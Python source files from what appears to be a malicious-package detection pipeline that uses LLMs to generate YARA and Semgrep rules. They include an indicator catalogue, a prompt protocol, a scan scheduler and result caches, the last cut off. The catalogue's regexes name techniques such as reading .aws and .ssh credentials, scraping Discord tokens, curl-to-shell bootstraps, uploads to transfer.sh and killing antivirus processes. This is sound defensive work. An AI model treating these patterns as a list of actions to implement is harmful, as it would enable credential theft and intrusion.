        semgrep_pattern="exec(urllib.request.urlopen($URL, ...).read())",
    ),
    IndicatorPattern(
        key="net_dns_tunnel",
        audit_category=NETWORK,
        subcategory="DNS/Protocol Abuse",
        description="DNS lookups of encoded subdomains (DNS tunnelling)",
        pattern=r"socket\.gethostbyname\(\s*(?:label|chunks|[\w\.]*\+)",
        signature="socket.gethostbyname(",
        specificity=0.72,
    ),
    IndicatorPattern(
        key="net_udp_exfil",
        audit_category=NETWORK,
        subcategory="Data Exfiltration Channels",
        description="Chunked UDP exfiltration to a fixed address",
        pattern=r"socket\.SOCK_DGRAM",
        signature="socket.SOCK_DGRAM",
        specificity=0.65,
    ),
    IndicatorPattern(
        key="net_http_post_exfil",
        audit_category=NETWORK,
        subcategory="Data Exfiltration Channels",
        description="HTTP POST of collected host data to a remote endpoint",
        pattern=r"requests\.post\(",
        signature="requests.post(",
        specificity=0.45,
        semgrep_pattern="requests.post($URL, ...)",
    ),
    IndicatorPattern(
        key="net_transfer_sh_upload",
        audit_category=NETWORK,
        subcategory="Cloud Service Misuse",
        description="Uploading files to an anonymous sharing service",
        pattern=r"transfer\.sh/",
        signature="transfer.sh/",
        specificity=0.93,
    ),
    IndicatorPattern(
        key="net_hardcoded_aws_key",
        audit_category=NETWORK,
        subcategory="Cloud Service Misuse",
        description="Hard-coded AWS access key (attacker-controlled bucket)",
        pattern=r"AKIA[0-9A-Z]{8,}",
        signature="aws_access_key_id=\"AKIA",
        regex_signature=r"AKIA[0-9A-Z]{8,}",
        specificity=0.96,
    ),
    IndicatorPattern(
        key="net_github_dead_drop",
        audit_category=NETWORK,
        subcategory="Social Media API Exploitation",
        description="Using a social profile as a command dead-drop",
        pattern=r"api\.github\.com/users/.*-sync",
        signature="api.github.com/users/",
        specificity=0.85,
    ),
    # -- file operations ----------------------------------------------------------------
    IndicatorPattern(
        key="file_browser_credentials",
        audit_category=FILE_OPERATION,
        subcategory="Credential Theft",
        description="Reading browser credential / cookie databases",
        pattern=r"(Login Data|Firefox/Profiles|Default/Cookies|Local State)",
        signature="Login Data",
        specificity=0.95,
    ),
    IndicatorPattern(
        key="file_discord_leveldb",
        audit_category=FILE_OPERATION,
        subcategory="Known Trojan Families",
        description="Scraping Discord's LevelDB for authentication tokens",
        pattern=r"Local Storage/leveldb",
        signature="Local Storage/leveldb",
        specificity=0.98,
    ),
    IndicatorPattern(
        key="file_ssh_aws_dotfiles",
        audit_category=FILE_OPERATION,
        subcategory="Configuration File Extraction",
        description="Reading credential dotfiles (.aws, .ssh, .netrc, .pypirc, .npmrc)",
        pattern=r"(\.aws/credentials|\.ssh/id_rsa|\.netrc|\.pypirc|\.npmrc|\.docker/config\.json|\.kube/config)",
        signature=".aws/credentials",
        regex_signature=r"\.(aws/credentials|ssh/id_rsa|netrc|pypirc|npmrc)",
        specificity=0.9,
    ),
    IndicatorPattern(
        key="file_wallet_hunt",
        audit_category=FILE_OPERATION,
        subcategory="Sensitive Data Harvesting",
        description="Searching the filesystem for cryptocurrency wallets",
        pattern=r"(wallet\.dat|exodus\.wallet|\*\.wallet|\.kdbx)",
        signature="wallet.dat",
        specificity=0.95,
    ),
    IndicatorPattern(
        key="file_secret_walk",
        audit_category=FILE_OPERATION,
        subcategory="Sensitive Data Harvesting",
        description="Walking the filesystem collecting keys and env files",
        pattern=r"os\.walk\(os\.path\.expanduser",
        signature="os.walk(os.path.expanduser",
        specificity=0.8,
        semgrep_pattern="os.walk(os.path.expanduser($P))",
    ),
    IndicatorPattern(
        key="file_hosts_tamper",
        audit_category=FILE_OPERATION,
        subcategory="System Configuration Changes",
        description="Appending to the system hosts file to block security sites",
        pattern=r"(/etc/hosts|drivers\\\\etc\\\\hosts)",
        signature="/etc/hosts",
        specificity=0.85,
    ),
    IndicatorPattern(
        key="file_startup_persistence",
        audit_category=FILE_OPERATION,
        subcategory="Persistence Mechanisms",
        description="Copying the payload into an autostart location",
        pattern=r"(Start Menu/Programs/Startup|crontab -|\.bashrc|CurrentVersion\\\\+Run)",
        signature="Start Menu/Programs/Startup",
        regex_signature=r"(Start Menu/Programs/Startup|crontab -|\.bashrc)",
        specificity=0.88,
    ),
    IndicatorPattern(
        key="file_pip_conf_tamper",
        audit_category=FILE_OPERATION,
        subcategory="Configuration Tampering",
        description="Rewriting pip/npm configuration to point at a rogue index",
        pattern=r"(pip\.conf|index-url = |registry=https?://)",
        signature="index-url = ",
        specificity=0.85,
    ),
    IndicatorPattern(
        key="file_ransom_extensions",
        audit_category=FILE_OPERATION,
        subcategory="Crypto Library Exploitation",
        description="Encrypting user documents and deleting the originals",
        pattern=r"\.locked\"",
        signature='.locked"',
        specificity=0.95,
    ),
    IndicatorPattern(
        key="file_generic_remove",
        audit_category=FILE_OPERATION,
        subcategory="Unknown or Undetermined",
        description="File removal (generic; legitimate in cleanup code)",
        pattern=r"os\.remove\(",
        signature="os.remove(",
        specificity=0.2,
        semgrep_pattern="os.remove($PATH)",
    ),
    # -- encryption / obfuscation ------------------------------------------------------
    IndicatorPattern(
        key="enc_exec_b64",
        audit_category=ENCRYPTION,
        subcategory="Code Obfuscation",
        description="Executing a base64-decoded payload",
        pattern=r"exec\((?:compile\()?\s*(?:base64\.b64decode|zlib\.decompress)",
        signature="exec(base64.b64decode(",
        regex_signature=r"exec\((compile\()?(base64\.b64decode|zlib\.decompress)",
        specificity=0.97,
        semgrep_pattern="exec(base64.b64decode($X))",
    ),
    IndicatorPattern(
        key="enc_b64_blob_loader",
        audit_category=ENCRYPTION,
        subcategory="Code Obfuscation",
        description="Large embedded base64 blob compiled and executed",
        pattern=r"exec\(compile\(base64\.b64decode\(_blob\)",
        signature="exec(compile(base64.b64decode(_blob)",
        specificity=0.99,
    ),
    IndicatorPattern(
        key="enc_marshal_loads",
        audit_category=ENCRYPTION,
        subcategory="Code Obfuscation",
        description="Loading marshalled code objects at runtime",
        pattern=r"marshal\.loads\(",
        signature="marshal.loads(",
        specificity=0.9,
    ),
    IndicatorPattern(
        key="enc_chr_join_hiding",
        audit_category=ENCRYPTION,
        subcategory="String/Pattern Hiding",
        description="Assembling strings from character codes",
        pattern=r"join\(\s*chr\(c\)|join\(map\(chr,",
        signature="join(map(chr,",
        regex_signature=r"join\((chr\(|map\(chr,)",
        specificity=0.85,
    ),
    IndicatorPattern(
        key="enc_rot13_decode",
        audit_category=ENCRYPTION,
        subcategory="String/Pattern Hiding",
        description="Decoding rot13/hex-hidden constants",
        pattern=r"codecs\.decode\([^)]*(rot13|hex)",
        signature='codecs.decode(',
        specificity=0.7,
    ),
    IndicatorPattern(
        key="enc_aes_ransom",
        audit_category=ENCRYPTION,
        subcategory="Crypto Library Exploitation",
        description="Bulk AES/Fernet encryption of user files",
        pattern=r"(AES\.new\(|Fernet\(key\)|Fernet\.generate_key\(\))",
        signature="AES.new(",
        specificity=0.8,
    ),
    IndicatorPattern(
        key="enc_b64_generic",
        audit_category=ENCRYPTION,
        subcategory="Code Obfuscation",
        description="base64 decoding (generic; common in benign code)",
        pattern=r"base64\.b64decode\(",
        signature="base64.b64decode(",
        specificity=0.35,
        semgrep_pattern="base64.b64decode($X)",
    ),
    IndicatorPattern(
        key="enc_powershell_encoded",
        audit_category=ENCRYPTION,
        subcategory="Shell Command Execution",
        description="Launching PowerShell with an encoded command",
        pattern=r"powershell -enc",
        signature="powershell -enc",
        specificity=0.97,
    ),
    # -- privilege / execution ------------------------------------------------------------
    IndicatorPattern(
        key="priv_setuid_root",
        audit_category=PRIVILEGE,
        subcategory="Privilege Escalation",
        description="Attempting to switch to uid/gid 0",
        pattern=r"os\.set(uid|gid)\(0\)",
        signature="os.setuid(0)",
        specificity=0.93,
        semgrep_pattern="os.setuid(0)",
    ),
    IndicatorPattern(
        key="priv_sudo_suid_copy",
        audit_category=PRIVILEGE,
        subcategory="Privilege Escalation",
        description="Creating a setuid shell copy via sudo",
        pattern=r"chmod 4755",
        signature="chmod 4755",
        specificity=0.96,
    ),
    IndicatorPattern(
        key="priv_shellexecute_runas",
        audit_category=PRIVILEGE,
        subcategory="Privilege Escalation",
        description="UAC elevation via ShellExecuteW runas",
        pattern=r'ShellExecuteW\(None,\s*"runas"',
        signature='"runas"',
        specificity=0.9,
    ),
    IndicatorPattern(
        key="priv_taskkill_av",
        audit_category=PRIVILEGE,
        subcategory="Process Manipulation",
        description="Killing security products by process name",
        pattern=r"taskkill /F /IM",
        signature="taskkill /F /IM",
        specificity=0.9,
    ),
    IndicatorPattern(
        key="priv_registry_run_key",
        audit_category=PRIVILEGE,
        subcategory="Persistence Mechanisms",
        description="Writing an autostart registry Run key",
        pattern=r"CurrentVersion\\\\+Run",
        signature="CurrentVersion\\\\Run",
        specificity=0.9,
    ),
    IndicatorPattern(
        key="priv_firewall_off",
        audit_category=PRIVILEGE,
        subcategory="System Configuration Changes",
        description="Disabling the host firewall",
        pattern=r"(advfirewall set allprofiles state off|iptables -F)",
        signature="advfirewall set allprofiles state off",
        specificity=0.95,
    ),
    IndicatorPattern(
        key="exec_curl_pipe_sh",
        audit_category=PRIVILEGE,
        subcategory="Shell Command Execution",
        description="curl | sh style remote bootstrap",
        pattern=r"(curl[^\"\n]*\|\s*(sh|bash)|wget -qO-[^\"\n]*\|\s*bash)",
        signature="| sh",
        regex_signature=r"(curl|wget)[^\n]{0,120}\|\s*(sh|bash)",
        specificity=0.95,
        semgrep_pattern='os.system("$CMD")',
    ),
    IndicatorPattern(
        key="exec_os_system",
        audit_category=PRIVILEGE,
        subcategory="Shell Command Execution",
        description="Shell execution through os.system (generic)",
        pattern=r"os\.system\(",
        signature="os.system(",
        specificity=0.5,
        semgrep_pattern="os.system($CMD)",
    ),
    IndicatorPattern(
        key="exec_subprocess_shell_true",
        audit_category=PRIVILEGE,
        subcategory="Shell Command Execution",
        description="Subprocess invocation with shell=True (generic)",
        pattern=r"subprocess\.(run|call|Popen|check_output)\([^)\n]*shell=True",
        signature="shell=True",
        specificity=0.45,
        semgrep_pattern="subprocess.run($CMD, shell=True, ...)",
    ),
    IndicatorPattern(
        key="exec_eval_remote_text",
        audit_category=PRIVILEGE,
        subcategory="Script Injection",
        description="eval of text fetched from the network",
        pattern=r"eval\((?:r\.text|requests\.get|urllib\.request\.urlopen|expression)",
        signature="eval(r.text",
        regex_signature=r"eval\((r\.text|requests\.get|urllib)",
        specificity=0.9,
    ),
    IndicatorPattern(
        key="exec_hidden_window_popen",
        audit_category=PRIVILEGE,
        subcategory="Process Creation",
        description="Spawning a hidden/detached helper process",
        pattern=r"(creationflags=0x08000000|creationflags=134217728)",
        signature="creationflags=0x08000000",
        specificity=0.9,
    ),
    IndicatorPattern(
        key="exec_fork_daemon",
        audit_category=PRIVILEGE,
        subcategory="Process Creation",
        description="Daemonising via fork + setsid",
        pattern=r"os\.fork\(\)\s*==\s*0",
        signature="os.fork()",
        specificity=0.75,
    ),
    IndicatorPattern(
        key="exec_setup_install_hook",
        audit_category=PRIVILEGE,
        subcategory="Installation Hook Abuse",
        description="Custom setuptools install/develop command running extra code",
        pattern=r"class\s+\w+\((?:_?install|develop|build_py|egg_info)\)",
        signature="(install):",
        regex_signature=r"class \w+\((_?install|develop|build_py|egg_info)\)",
        specificity=0.85,
        semgrep_pattern="class $C(install): ...",
    ),
    IndicatorPattern(
        key="exec_ctypes_virtualalloc",
        audit_category=PRIVILEGE,
        subcategory="System Library Abuse",
        description="ctypes shellcode loader (VirtualAlloc/CreateThread)",
        pattern=r"kernel32\.VirtualAlloc",
        signature="kernel32.VirtualAlloc",
        specificity=0.98,
    ),
    IndicatorPattern(
        key="exec_ctypes_libc_system",
        audit_category=PRIVILEGE,
        subcategory="System Library Abuse",
        description="Calling libc system() through ctypes",
        pattern=r"CDLL\(ctypes\.util\.find_library\(\"c\"\)\)",
        signature='find_library("c")',
        specificity=0.85,
    ),
    # -- anti-debug / anti-analysis ----------------------------------------------------------
    IndicatorPattern(
        key="anti_gettrace_exit",
        audit_category=ANTI_DEBUG,
        subcategory="Anti-Analysis Techniques",
        description="Exiting when a tracer/debugger is attached",
        pattern=r"sys\.gettrace\(\)",
        signature="sys.gettrace()",
        specificity=0.85,
        semgrep_pattern="sys.gettrace()",
    ),
    IndicatorPattern(
        key="anti_isdebuggerpresent",
        audit_category=ANTI_DEBUG,
        subcategory="Anti-Analysis Techniques",
        description="IsDebuggerPresent check",
        pattern=r"IsDebuggerPresent\(\)",
        signature="IsDebuggerPresent()",
        specificity=0.95,
    ),
    IndicatorPattern(
        key="anti_vm_mac_prefix",
        audit_category=ANTI_DEBUG,
        subcategory="Sandbox Evasion",
        description="Refusing to run when the MAC prefix belongs to a hypervisor",
        pattern=r"uuid\.getnode\(\)[\s\S]{0,120}(0x000C29|0x080027|vendor_prefixes)",
        signature="uuid.getnode()",
        specificity=0.8,
    ),
    IndicatorPattern(
        key="anti_sandbox_hostname",
        audit_category=ANTI_DEBUG,
        subcategory="Sandbox Evasion",
        description="Hostname / container checks for analysis sandboxes",
        pattern=r"(\"sandbox\"|/\.dockerenv|\.containerenv)",
        signature="/.dockerenv",
        specificity=0.8,
    ),
    IndicatorPattern(
        key="anti_os_exit_guard",
        audit_category=ANTI_DEBUG,
        subcategory="Anti-Analysis Techniques",
        description="Silent os._exit() guards around the payload",
        pattern=r"os\._exit\(0\)",
        signature="os._exit(0)",
        specificity=0.75,
    ),
    # -- generic, low-specificity idioms (false-positive bait for weak profiles) -------------
    IndicatorPattern(
        key="generic_environ_access",
        audit_category=FILE_OPERATION,
        subcategory="Environment Data Stealing",
        description="Access to the process environment (generic)",
        pattern=r"os\.environ",
        signature="os.environ",
        specificity=0.25,
        semgrep_pattern="os.environ",
    ),
    IndicatorPattern(
        key="generic_environ_secret_filter",
        audit_category=FILE_OPERATION,
        subcategory="Environment Data Stealing",
        description="Filtering environment variables for secrets/tokens",
        pattern=r'\("TOKEN", "SECRET", "KEY", "PASS"\)',
        signature='("TOKEN", "SECRET", "KEY", "PASS")',
        specificity=0.93,
    ),
    IndicatorPattern(
        key="generic_getpass_user",
        audit_category=FILE_OPERATION,
        subcategory="Environment Data Stealing",
        description="Collecting username/hostname fingerprints",
        pattern=r"getpass\.getuser\(\)",
        signature="getpass.getuser()",
        specificity=0.55,
    ),
    IndicatorPattern(
        key="generic_requests_get",
        audit_category=NETWORK,
        subcategory="Network Library Misuse",
        description="HTTP GET with the requests library (generic)",
        pattern=r"requests\.get\(",
        signature="requests.get(",
        specificity=0.2,
        semgrep_pattern="requests.get($URL, ...)",
    ),
    IndicatorPattern(
        key="generic_urlopen",
        audit_category=NETWORK,
        subcategory="Network Library Misuse",
        description="urllib.request.urlopen call (generic)",
        pattern=r"urllib\.request\.urlopen\(",
        signature="urllib.request.urlopen(",
        specificity=0.4,
        semgrep_pattern="urllib.request.urlopen($X, ...)",
    ),
    IndicatorPattern(
        key="generic_open_write",
        audit_category=FILE_OPERATION,
        subcategory="Unknown or Undetermined",
        description="Opening files for writing (generic)",
        pattern=r"open\([^)\n]*, \"w\"",
        signature='open(',
        specificity=0.1,
    ),
)


def indicators_for_category(audit_category: str) -> list[IndicatorPattern]:
    """Return all catalogue entries of one Table II audit category."""
    return [entry for entry in INDICATOR_CATALOG if entry.audit_category == audit_category]


def indicator_by_key(key: str) -> IndicatorPattern:
    for entry in INDICATOR_CATALOG:
        if entry.key == key:
            return entry
    raise KeyError(f"unknown indicator key: {key}")


def minimum_specificity(keys: list[str]) -> float:
    """Lowest specificity among the given indicator keys (1.0 for empty input)."""
    if not keys:
        return 1.0
    return min(indicator_by_key(key).specificity for key in keys)
