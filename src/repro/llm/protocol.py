"""Prompt/response wire protocol between the pipeline and the provider.

The pipeline and the model only exchange *text*.  To keep that boundary
honest while still allowing the simulated provider to do real work, prompts
embed their payloads between explicit section markers and completions are
returned with equally explicit sections.  A real API-backed provider would
simply ignore the markers; the simulated one parses them.

Sections used in prompts (Tables III-V of the paper):

* ``TASK`` -- one of the :data:`TASK_*` constants
* ``FORMAT`` -- ``yara`` or ``semgrep``
* ``SAMPLE i`` -- basic units (code or metadata JSON)
* ``ANALYSIS`` -- a previously produced analysis document
* ``RULE`` -- a previously produced rule
* ``ERROR`` -- compiler error messages (alignment stage)
* ``FEW_SHOT`` -- example rule files

Sections used in completions: ``ANALYSIS`` and ``RULE``.
"""

from __future__ import annotations

import re

TASK_CRAFT = "craft"
TASK_REFINE = "refine"
TASK_FIX = "fix"
TASK_DIRECT = "direct"

FORMAT_YARA = "yara"
FORMAT_SEMGREP = "semgrep"

_SECTION_RE = re.compile(r"^===\s*(?P<name>[A-Z_]+(?:\s+\d+)?)\s*===\s*$", re.MULTILINE)


def section(name: str, body: str) -> str:
    """Render one delimited section."""
    return f"=== {name} ===\n{body.rstrip()}\n"


def parse_sections(text: str) -> dict[str, list[str]]:
    """Split a prompt or completion into its named sections.

    Returns a mapping from section name (e.g. ``"SAMPLE 1"``, ``"RULE"``) to
    the list of bodies carrying that name, in order of appearance.  Text
    before the first marker is stored under ``"PREAMBLE"``.
    """
    sections: dict[str, list[str]] = {}
    matches = list(_SECTION_RE.finditer(text))
    if not matches:
        return {"PREAMBLE": [text]} if text.strip() else {}
    preamble = text[: matches[0].start()].strip()
    if preamble:
        sections["PREAMBLE"] = [preamble]
    for index, match in enumerate(matches):
        name = re.sub(r"\s+", " ", match.group("name").strip())
        start = match.end()
        end = matches[index + 1].start() if index + 1 < len(matches) else len(text)
        sections.setdefault(name, []).append(text[start:end].strip())
    return sections


def sections_with_prefix(sections: dict[str, list[str]], prefix: str) -> list[str]:
    """Collect bodies of every section whose name starts with ``prefix``."""
    bodies: list[str] = []
    for name in sorted(sections, key=_numeric_sort_key):
        if name.startswith(prefix):
            bodies.extend(sections[name])
    return bodies


def _numeric_sort_key(name: str):
    parts = name.rsplit(" ", 1)
    if len(parts) == 2 and parts[1].isdigit():
        return (parts[0], int(parts[1]))
    return (name, 0)


def first_section(sections: dict[str, list[str]], name: str, default: str = "") -> str:
    bodies = sections.get(name, [])
    return bodies[0] if bodies else default


def render_completion(analysis_text: str, rule_text: str) -> str:
    """Render a completion carrying an analysis document and a rule."""
    parts = []
    if analysis_text:
        parts.append(section("ANALYSIS", analysis_text))
    parts.append(section("RULE", rule_text))
    return "\n".join(parts)


def extract_rule_from_completion(text: str) -> str:
    """Pull the rule body out of a completion (tolerates missing markers)."""
    sections = parse_sections(text)
    rule = first_section(sections, "RULE")
    if rule:
        return rule
    # Fall back: the whole completion may already be a bare rule.
    return text.strip()


def extract_analysis_from_completion(text: str) -> str:
    sections = parse_sections(text)
    return first_section(sections, "ANALYSIS")
