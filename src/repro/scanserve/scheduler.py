"""Sharded execution of scan work.

The scheduler splits a batch of packages into shards, runs a shard function
over them on a worker pool, and reassembles results in submission order.
Two execution lanes:

* ``process`` — a :class:`concurrent.futures.ProcessPoolExecutor` with a
  per-worker initializer (the compiled ruleset is shipped once per worker,
  not once per task) and a bounded in-flight window: submission blocks when
  ``max_pending`` shards are outstanding, so an arbitrarily large batch
  never materialises an unbounded task queue (backpressure).
* ``inprocess`` — the same shard function executed serially in the calling
  process; the fallback for environments where forking/spawning is
  unavailable and the deterministic lane the tests use.

``auto`` tries the process pool and degrades to in-process on any pool
failure; ``last_mode_used`` reports what actually ran.
"""

from __future__ import annotations

import os
import threading
from concurrent.futures import FIRST_COMPLETED, ProcessPoolExecutor, wait
from dataclasses import dataclass, field
from typing import Callable, Optional, Sequence, TypeVar

AUTO = "auto"
PROCESS = "process"
INPROCESS = "inprocess"
_MODES = (AUTO, PROCESS, INPROCESS)

ItemT = TypeVar("ItemT")


@dataclass
class ShardStats:
    """Throughput and latency of one shard."""

    shard_id: int
    packages: int = 0
    matched_packages: int = 0
    seconds: float = 0.0
    candidate_rules: int = 0

    @property
    def packages_per_second(self) -> float:
        return self.packages / self.seconds if self.seconds > 0 else 0.0


def shard_items(items: Sequence[ItemT], num_shards: int) -> list[list[tuple[int, ItemT]]]:
    """Round-robin ``items`` into ``num_shards`` shards, tagging each item
    with its original position so results can be reassembled in order."""
    if num_shards < 1:
        raise ValueError("num_shards must be positive")
    shards: list[list[tuple[int, ItemT]]] = [[] for _ in range(num_shards)]
    for position, item in enumerate(items):
        shards[position % num_shards].append((position, item))
    return [shard for shard in shards if shard]


def chunk_items(
    items: Sequence[tuple[int, ItemT]], chunk_size: int
) -> list[list[tuple[int, ItemT]]]:
    """Slice position-tagged items into contiguous chunks of ``chunk_size``.

    The batch-dispatch counterpart of :func:`shard_items`: a chunk is one
    worker *task* (scanned as a single batch, so per-task setup — worker
    round trip, atom pass — amortises over the whole chunk), whereas a
    shard is one worker's total allotment.  Contiguous slices keep cache
    locality for prepared packages built in input order.
    """
    if chunk_size < 1:
        raise ValueError("chunk_size must be positive")
    return [
        list(items[start : start + chunk_size])
        for start in range(0, len(items), chunk_size)
    ]


@dataclass
class SchedulerReport:
    """What a scheduler run did, for service-level stats."""

    mode: str = INPROCESS
    shards: int = 0
    workers: int = 1
    fallback_error: str = ""
    results: list = field(default_factory=list)


class ScanScheduler:
    """Run shard functions across a bounded worker pool."""

    def __init__(
        self,
        mode: str = AUTO,
        max_workers: Optional[int] = None,
        max_pending: Optional[int] = None,
    ) -> None:
        if mode not in _MODES:
            raise ValueError(f"mode must be one of {_MODES}, got {mode!r}")
        self.mode = mode
        self.max_workers = max_workers
        self.max_pending = max_pending

    # -- execution ----------------------------------------------------------------
    def run(
        self,
        shards: Sequence,
        shard_fn: Callable,
        init_fn: Optional[Callable] = None,
        init_args: tuple = (),
    ) -> SchedulerReport:
        """Apply ``shard_fn`` to every shard; results keep shard order.

        ``init_fn``/``init_args`` prime per-worker state (module-level, so
        they are picklable for the process lane and shared-global for the
        in-process lane).
        """
        if not shards:
            return SchedulerReport(mode=INPROCESS, shards=0, results=[])
        # a single shard gains nothing from a pool, but an explicit "process"
        # request still gets one (the caller may want the isolation)
        if self.mode == INPROCESS or (len(shards) == 1 and self.mode != PROCESS):
            return self._run_inprocess(shards, shard_fn, init_fn, init_args)
        try:
            return self._run_process(shards, shard_fn, init_fn, init_args)
        except Exception as exc:
            if self.mode == PROCESS:
                raise
            report = self._run_inprocess(shards, shard_fn, init_fn, init_args)
            report.fallback_error = f"{type(exc).__name__}: {exc}"
            return report

    def _run_inprocess(self, shards, shard_fn, init_fn, init_args) -> SchedulerReport:
        if init_fn is not None:
            init_fn(*init_args)
        results = [shard_fn(shard) for shard in shards]
        return SchedulerReport(
            mode=INPROCESS, shards=len(shards), workers=1, results=results
        )

    def _run_process(self, shards, shard_fn, init_fn, init_args) -> SchedulerReport:
        workers = self.max_workers or min(len(shards), os.cpu_count() or 2)
        workers = max(1, min(workers, len(shards)))
        max_pending = self.max_pending or workers * 2
        results: list = [None] * len(shards)
        with ProcessPoolExecutor(
            max_workers=workers, initializer=init_fn, initargs=init_args
        ) as pool:
            pending = {}
            for shard_id, shard in enumerate(shards):
                while len(pending) >= max_pending:  # backpressure: bound in-flight work
                    done, _ = wait(pending, return_when=FIRST_COMPLETED)
                    for future in done:
                        results[pending.pop(future)] = future.result()
                pending[pool.submit(shard_fn, shard)] = shard_id
            for future, shard_id in pending.items():
                results[shard_id] = future.result()
        return SchedulerReport(
            mode=PROCESS, shards=len(shards), workers=workers, results=results
        )


class BoundedQueue:
    """A tiny bounded FIFO with blocking put — the streaming-ingest buffer.

    ``scanserve`` batches are list-driven, but a registry feed is a stream;
    this queue gives feeders a backpressured hand-off point (`put` blocks
    while the scanner is behind) without pulling in a full async stack.
    """

    def __init__(self, max_items: int = 1024) -> None:
        if max_items < 1:
            raise ValueError("max_items must be positive")
        self.max_items = max_items
        self._items: list = []
        self._lock = threading.Lock()
        self._not_full = threading.Condition(self._lock)
        self._not_empty = threading.Condition(self._lock)
        self._closed = False

    def put(self, item, timeout: Optional[float] = None) -> bool:
        with self._not_full:
            if not self._not_full.wait_for(
                lambda: len(self._items) < self.max_items or self._closed, timeout
            ):
                return False
            if self._closed:
                raise RuntimeError("queue is closed")
            self._items.append(item)
            self._not_empty.notify()
            return True

    def get(self, timeout: Optional[float] = None):
        with self._not_empty:
            if not self._not_empty.wait_for(
                lambda: self._items or self._closed, timeout
            ):
                raise TimeoutError("queue empty")
            if not self._items:
                raise RuntimeError("queue is closed")
            item = self._items.pop(0)
            self._not_full.notify()
            return item

    def close(self) -> None:
        with self._lock:
            self._closed = True
            self._not_full.notify_all()
            self._not_empty.notify_all()

    @property
    def closed(self) -> bool:
        with self._lock:
            return self._closed

    def __len__(self) -> int:
        with self._lock:
            return len(self._items)

    def drain(self) -> list:
        with self._lock:
            items, self._items = self._items, []
            self._not_full.notify_all()
            return items
