"""Content-hash result cache.

Registries see the same artefact many times (mirrors re-upload, versions
share files, re-scans after a rule hot-swap only need re-scanning when the
rules actually changed), so scan results are cached under
``(package fingerprint, ruleset version)``.  The fingerprint is the
SHA-256-based digest from :class:`repro.evaluation.detector.PreparedPackage`
(built on :mod:`repro.utils.hashing`), which covers file paths, contents,
metadata and the scan configuration; keying on the ruleset version makes a
hot-swap an implicit, surgical invalidation.
"""

from __future__ import annotations

import threading
from collections import OrderedDict
from dataclasses import dataclass, replace

from repro.evaluation.detector import PackageDetection


@dataclass
class CacheStats:
    hits: int = 0
    misses: int = 0
    evictions: int = 0

    @property
    def lookups(self) -> int:
        return self.hits + self.misses

    @property
    def hit_rate(self) -> float:
        return self.hits / self.lookups if self.lookups else 0.0


class ScanResultCache:
    """Bounded, thread-safe LRU cache of :class:`PackageDetection` results."""

    def __init__(self, max_entries: int = 4096) -> None:
        if max_entries < 1:
            raise ValueError("max_entries must be positive")
        self.max_entries = max_entries
        self._lock = threading.Lock()
        self._entries: "OrderedDict[tuple[str, int], PackageDetection]" = OrderedDict()
        self.stats = CacheStats()

    @staticmethod
    def _copy(detection: PackageDetection) -> PackageDetection:
        # hand out copies so callers can't mutate cached state
        return replace(
            detection,
            yara_rules=list(detection.yara_rules),
            semgrep_rules=list(detection.semgrep_rules),
        )

    def get(self, fingerprint: str, ruleset_version: int) -> PackageDetection | None:
        key = (fingerprint, ruleset_version)
        with self._lock:
            detection = self._entries.get(key)
            if detection is None:
                self.stats.misses += 1
                return None
            self._entries.move_to_end(key)
            self.stats.hits += 1
            return self._copy(detection)

    def put(self, fingerprint: str, ruleset_version: int, detection: PackageDetection) -> None:
        key = (fingerprint, ruleset_version)
        with self._lock:
            self._entries[key] = self._copy(detection)
            self._entries.move_to_end(key)
            while len(self._entries) > self.max_entries:
                self._entries.popitem(last=False)
                self.stats.evictions += 1

    def invalidate_version(self, ruleset_version: int) -> int:
        """Drop every entry of one ruleset version (e.g. after a retire)."""
        with self._lock:
            stale = [key for key in self._entries if key[1] == ruleset_version]
            for key in stale:
                del self._entries[key]
            return len(stale)

    def clear(self) -> None:
        with self._lock:
            self._entries.clear()

    def __len__(self) -> int:
        with self._lock:
            return len(self._entries)
