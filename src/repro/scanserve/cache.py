"""Content-hash result cache.

Registries see the same artefact many times (mirrors re-upload, versions
share files, re-scans after a rule hot-swap only need re-scanning when the
rules actually changed), so scan results are cached under
``(package fingerprint, ruleset cache key)`` — the cache key is the
content digest a :class:`repro.scanserve.registry.RulesetVersion` carries,
so identical rule sets share entries (even across processes) while any
change to the rules is an implicit, surgical invalidation.  The fingerprint is the
SHA-256-based digest from :class:`repro.evaluation.detector.PreparedPackage`
(built on :mod:`repro.utils.hashing`), which covers file paths, contents,
metadata and the scan configuration.

Two backends share the interface: the in-memory :class:`ScanResultCache`
(the default) and :class:`DiskScanResultCache`, an on-disk LRU whose
entries survive process restarts — a registry scanner that redeploys keeps
its warm cache, so the post-restart re-scan only pays for packages the
previous process never saw.  Select it with
``ScanServiceConfig(cache_dir=...)``.
"""

from __future__ import annotations

import json
import os
import threading
from collections import OrderedDict
from dataclasses import dataclass, replace
from pathlib import Path

from repro.evaluation.detector import PackageDetection
from repro.utils.atomic import atomic_write_text
from repro.utils.hashing import stable_digest


@dataclass
class CacheStats:
    hits: int = 0
    misses: int = 0
    evictions: int = 0

    @property
    def lookups(self) -> int:
        return self.hits + self.misses

    @property
    def hit_rate(self) -> float:
        return self.hits / self.lookups if self.lookups else 0.0


class ScanResultCache:
    """Bounded, thread-safe LRU cache of :class:`PackageDetection` results."""

    def __init__(self, max_entries: int = 4096) -> None:
        if max_entries < 1:
            raise ValueError("max_entries must be positive")
        self.max_entries = max_entries
        self._lock = threading.Lock()
        self._entries: "OrderedDict[tuple[str, int | str], PackageDetection]" = OrderedDict()
        self.stats = CacheStats()

    @staticmethod
    def _copy(detection: PackageDetection) -> PackageDetection:
        # hand out copies so callers can't mutate cached state
        return replace(
            detection,
            yara_rules=list(detection.yara_rules),
            semgrep_rules=list(detection.semgrep_rules),
        )

    def get(self, fingerprint: str, ruleset_version: int | str) -> PackageDetection | None:
        key = (fingerprint, ruleset_version)
        with self._lock:
            detection = self._entries.get(key)
            if detection is None:
                self.stats.misses += 1
                return None
            self._entries.move_to_end(key)
            self.stats.hits += 1
            return self._copy(detection)

    def put(self, fingerprint: str, ruleset_version: int | str, detection: PackageDetection) -> None:
        key = (fingerprint, ruleset_version)
        with self._lock:
            self._entries[key] = self._copy(detection)
            self._entries.move_to_end(key)
            while len(self._entries) > self.max_entries:
                self._entries.popitem(last=False)
                self.stats.evictions += 1

    def invalidate_version(self, ruleset_version: int | str) -> int:
        """Drop every entry of one ruleset version (e.g. after a retire)."""
        with self._lock:
            stale = [key for key in self._entries if key[1] == ruleset_version]
            for key in stale:
                del self._entries[key]
            return len(stale)

    def clear(self) -> None:
        with self._lock:
            self._entries.clear()

    def __len__(self) -> int:
        with self._lock:
            return len(self._entries)


# -- persistence helpers -------------------------------------------------------------


def detection_to_dict(detection: PackageDetection) -> dict:
